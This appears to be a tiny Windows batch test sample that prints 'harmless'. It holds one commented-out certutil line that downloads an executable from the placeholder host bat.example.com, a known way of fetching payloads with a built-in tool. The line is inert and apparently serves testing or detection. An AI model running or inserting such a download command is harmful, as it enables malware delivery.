@echo off
echo harmless
rem certutil -urlcache -f http://bat.example.com/x.exe x.exe
